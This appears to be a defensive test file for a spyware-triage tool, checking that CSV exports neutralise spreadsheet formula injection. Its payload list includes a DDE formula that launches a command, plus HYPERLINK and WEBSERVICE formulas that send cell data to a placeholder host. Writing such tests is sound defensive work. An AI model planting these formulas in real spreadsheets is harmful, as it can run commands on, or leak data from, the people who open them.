"""A cell of a CSV file is text, in whatever program it is opened."""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from tests.report import samples

from spytriage.finding_kinds import FindingId
from spytriage.models import IndicatorType, Outcome
from spytriage.report.timesketch import to_csv
from spytriage.text import spreadsheet_cell

# Source of the list: https://owasp.org/www-community/attacks/CSV_Injection and what spreadsheets add to it.
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1"',
    '"",=1+1',
    "a;=1+1",
    'a; "=1+1"',
    "a|=1+1",
    "a\n=1+1",
    "a\u2028=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff201+1",
    "\u22121+1",
    '=HYPERLINK("http://192.0.2.1/?"&A1;"open")',
    '=WEBSERVICE("http://192.0.2.1/")',
    "x;y;-2+3+cmd|' /C calc'!A0",
)
_STARTS = tuple("=+-@\uff1d\uff0b\uff0d\uff20\u2212")


def _cells(table: str) -> list[str]:
    """Return every cell that a program finds that parts cells at `,`, at `;`, at tabs or at `|`."""
    return [
        cell
        for delimiter in ",;\t|"
        for row in csv.reader(io.StringIO(table, newline=""), delimiter=delimiter)
        for cell in row
    ]


def _is_formula(cell: str) -> bool:
    return cell.lstrip(' "\t\r\n\u00a0').startswith(_STARTS)


def _written(*rows: tuple[str, ...]) -> str:
    table = io.StringIO(newline="")
    csv.writer(table, lineterminator="\n").writerows(rows)
    return table.getvalue()


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_text_in_every_column(formula: str) -> None:
    cell = spreadsheet_cell(formula)
    assert not any(map(_is_formula, _cells(_written((cell, "a", cell), ("a", cell, "b")))))


@given(st.text(st.sampled_from(" =+-@;|,\"'\t\r\na\u200b\uff1d\u2212") | st.characters()), st.text())
@example('a;""=1', "")
def test_no_text_makes_a_formula_or_another_row(first: str, second: str) -> None:
    row = spreadsheet_cell(first), "a", spreadsheet_cell(second)
    written = _written(row)
    assert not any(map(_is_formula, _cells(written)))
    assert written.count("\n") == 1
    assert next(csv.reader([written])) == list(row)
    assert not any(unicodedata.category(char) in {"Cc", "Cf", "Cs", "Zl", "Zp"} for char in written.rstrip("\n"))


@given(st.text())
def test_a_cell_is_made_harmless_once(text: str) -> None:
    assert spreadsheet_cell(spreadsheet_cell(text)) == spreadsheet_cell(text)


@pytest.mark.parametrize("text", ["bad[.]example[.]org", "2026-11-21", "Link received: a – b", "F1", ""])
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert spreadsheet_cell(text) == text


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_timeline_holds_no_formula_whatever_a_set_holds(formula: str) -> None:
    value = samples.indicator(IndicatorType.PROCESS, formula, set=formula, family=formula)
    report = samples.report(Outcome.MATCH, [samples.finding(FindingId.PROCESS_RAN, "Datausage", value)])
    assert not any(map(_is_formula, _cells(to_csv(report).decode("utf-8"))))
